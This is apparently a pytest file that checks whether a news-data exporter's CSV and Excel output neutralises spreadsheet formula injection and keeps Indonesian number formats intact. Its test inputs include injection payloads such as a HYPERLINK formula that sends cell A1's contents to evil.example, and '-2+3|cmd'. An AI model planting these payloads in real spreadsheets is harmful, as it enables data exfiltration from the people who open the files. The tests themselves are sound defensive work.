"""CSV and Excel as spreadsheets read them; nothing of a post is ever a formula."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import datetime

import openpyxl
import pandas
import pytest
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from extractor.export import export, export_tables
from extractor.export.cells import defused, plain
from extractor.export.xlsx_file import write_xlsx

FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")


def read_csv(path):
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
        ("+1", "'+1"),
        ("-2+3|cmd", "'-2+3|cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (" \u00a0=1+1", "' \u00a0=1+1"),  # blanks are skipped by some readers
        ("\u200b=1", "'\u200b=1"),
        ("＝1+1", "'＝1+1"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\ncmd"),
        ("\u202e=1+1", "'=1+1"),  # the sign that turns the text goes
        ("a\x00b\x07", "a\ufffdb\ufffd"),
        ("tiga\r\nbaris\rsaja", "tiga\nbaris\nsaja"),
        ("11.01", "'11.01"),  # an area code, which would become one past eleven
        ("5.746", "'5.746"),
        ("25/08", "'25/08"),
        ("0123", "'0123"),
        ("1234567890123456", "'1234567890123456"),
        ("12e4567890123456", "'12e4567890123456"),
        ("62", "62"),
        ("2022-08", "2022-08"),
        ("2022-08-25", "2022-08-25"),
        ("Rp 42 juta", "Rp 42 juta"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_shows_as_it_is(text, cell):
    assert defused(text) == cell


def test_csv_is_what_excel_of_an_indonesian_locale_reads(store, out):
    written = export(store, "csv", out)
    assert written.rows["events"] == 2
    assert sorted(one.name for one in out.iterdir()) == sorted(
        [*(f"{name}.csv" for name in export_tables()), "dictionary.md"]
    )
    raw = (out / "amounts.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfarticle_id;amount_id;")
    assert raw.count(b"\r\n") == raw.count(b"\n") == 4
    first, half, _ = read_csv(out / "amounts.csv")
    assert (first["value"], half["value"], first["event_day"]) == ("42000000", "0,5", "2022-08-25")
    assert first["place_code"] == "'81.71.01"
    frame = pandas.read_csv(out / "amounts.csv", sep=";", decimal=",", encoding="utf-8-sig")
    assert list(frame["value"]) == [42e6, 0.5, 42e6]


def test_no_cell_of_csv_begins_as_a_formula(store, out):
    export(store, "csv", out)
    cells = [cell for file in out.glob("*.csv") for row in read_csv(file) for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(FORMULA_SIGNS)] == []
    hostile = next(row for row in read_csv(out / "articles.csv") if row["published"] == "2022")
    assert hostile["title"].startswith("'=HYPERLINK")
    assert (hostile["article_id"], hostile["outlet"]) == ("'12345678901234e5", 'Koran; "Kota"')
    assert read_csv(out / "warnings.csv")[0]["text"] == "satu\n=dua\ufffd\ufffd"


def test_one_table_is_a_file_or_goes_to_standard_output(store, out, capsysbinary):
    assert export(store, "csv", out / "events.csv").rows == {"events": 2}
    assert export(store, "csv", "-", tables=["people"]).rows == {"people": 2}
    assert capsysbinary.readouterr().out.startswith(b"\xef\xbb\xbfarticle_id;person_id;")
    assert [one.name for one in out.iterdir()] == ["events.csv"]


@pytest.fixture
def book(store, out):
    """The workbook of the store."""
    export(store, "xlsx", out / "news.xlsx")
    return openpyxl.load_workbook(out / "news.xlsx")


def column(sheet: Worksheet, name: str) -> list[object]:
    position = [cell.value for cell in sheet[1]].index(name)
    return [row[position].value for row in sheet.iter_rows(min_row=2)]


def test_a_workbook_has_a_sheet_a_table_and_one_that_explains_them(book):
    assert book.sheetnames == [*export_tables(), "dictionary"]
    events = book["events"]
    assert (events.freeze_panes, events.auto_filter.ref) == ("A2", "A1:AG3")
    assert events.column_dimensions["E"].width > events.column_dimensions["D"].width
    explained = [tuple(cell.value for cell in row) for row in book["dictionary"].iter_rows(min_row=2, max_row=2)]
    assert explained == [
        ("events", "article_id", "text", "yes", "of the record: the same for the same article on every machine")
    ]


def test_cells_of_a_workbook_are_typed(book):
    assert column(book["events"], "day") == [datetime(2022, 8, 25), None]
    assert column(book["amounts"], "value") == [42_000_000, 0.5, 42_000_000]
    assert column(book["articles"], "published_at")[0] == datetime(2022, 8, 25, 23, 41)
    assert column(book["events"], "place_code")[0] == "81.71.01"


def test_a_workbook_holds_no_formula_and_no_link(book):
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}
    assert [cell.value for cell in cells if cell.hyperlink] == []
    assert column(book["articles"], "title")[1] == '=HYPERLINK("http://evil.example/?"&A1;"klik")'
    assert column(book["articles"], "url")[1] == "https://koran.example/a?b=1&c=2"
    assert column(book["warnings"], "text") == ["satu\n=dua\ufffd\ufffd"]
    assert column(book["people"], "role")[1] == "=1+1 terbalik"


@pytest.mark.parametrize("text", ["_x0041_", "_x000D_", 'a<b>&"c"\'', "  dua  spasi  ", "😀" * 3])
def test_a_workbook_keeps_texts_that_look_like_its_own_markup(text, tmp_path):
    table = export_tables()["warnings"]
    row = ("0" * 16, None, None, text, None, "code", None, "message")
    write_xlsx([(table, [row])], tmp_path / "one.xlsx")
    (shown,) = column(openpyxl.load_workbook(tmp_path / "one.xlsx")["warnings"], "title")
    assert unescape(shown) == text  # openpyxl leaves to its users what spreadsheets do themselves


def test_rows_and_characters_that_do_not_fit_are_told(tmp_path):
    table = export_tables()["warnings"]
    rows = [("0" * 16, None, None, "😀" * 20_000, None, "code", None, str(number)) for number in range(5)]
    written = write_xlsx([(table, rows)], tmp_path / "one.xlsx", most=4)
    assert written.rows == {"warnings": 3}
    assert written.notes == [
        "warnings: a sheet holds no more than 3 rows, the rest is left out. Ask for less, or take csv or parquet.",
        "warnings: 3 cells were longer than the 32767 characters that a cell can hold, and were cut.",
    ]
    cut = column(openpyxl.load_workbook(tmp_path / "one.xlsx")["warnings"], "title")[0]
    assert (cut[:-1], cut[-1]) == ("😀" * 16_383, "…")


@pytest.mark.parametrize("format", ["csv", "xlsx", "parquet", "geojson", "label-studio"])
def test_the_same_store_gives_the_same_bytes(store, out, format, monkeypatch):
    suffix = f"one.{format}"
    export(store, format, out / "first" / suffix)
    monkeypatch.setenv("TZ", "Asia/Jayapura")
    export(store, format, out / "second" / suffix)
    assert (out / "first" / suffix).read_bytes() == (out / "second" / suffix).read_bytes()


@pytest.fixture
def office(tmp_path):
    """LibreOffice without a screen: opens a file, writes it as another."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("LibreOffice is not installed: apt-get install libreoffice-calc-nogui")

    def convert(*sources, options=()):
        profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
        to = ("--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "office"))
        command = [program, profile, "--headless", *options, *to, *map(str, sources)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stderr
        return [openpyxl.load_workbook(tmp_path / "office" / f"{one.stem}.xlsx") for one in sources]

    return convert


def test_libreoffice_opens_the_workbook(store, out, office):
    export(store, "xlsx", out / "news.xlsx")
    (book,) = office(out / "news.xlsx")
    assert column(book["articles"], "title")[1] == '=HYPERLINK("http://evil.example/?"&A1;"klik")'
    assert column(book["events"], "day")[0] == datetime(2022, 8, 25)
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}


def test_libreoffice_opens_csv_with_indonesian_numbers_and_without_a_formula(store, out, office):
    for name in ("articles", "amounts"):
        export(store, "csv", out / f"{name}.csv", tables=[name])
    semicolons_utf8_indonesian = "--infilter=Text - txt - csv (StarCalc):59,34,76,1,,1057,false,true"
    books = office(out / "articles.csv", out / "amounts.csv", options=[semicolons_utf8_indonesian])
    articles, amounts = (book.active for book in books)
    assert {cell.data_type for sheet in (articles, amounts) for row in sheet.iter_rows() for cell in row} <= {
        "s",
        "n",
        "d",
    }
    assert column(articles, "title")[1] == '\'=HYPERLINK("http://evil.example/?"&A1;"klik")'
    assert column(articles, "published_day")[0] == datetime(2022, 8, 26)
    assert column(amounts, "value") == [42_000_000, 0.5, 42_000_000]
    assert column(amounts, "place_code")[0] == "'81.71.01"


def test_what_is_plain_stays_as_it_is():
    text = "Rp 42 juta – “santunan” é 😀"
    assert plain(text) == text
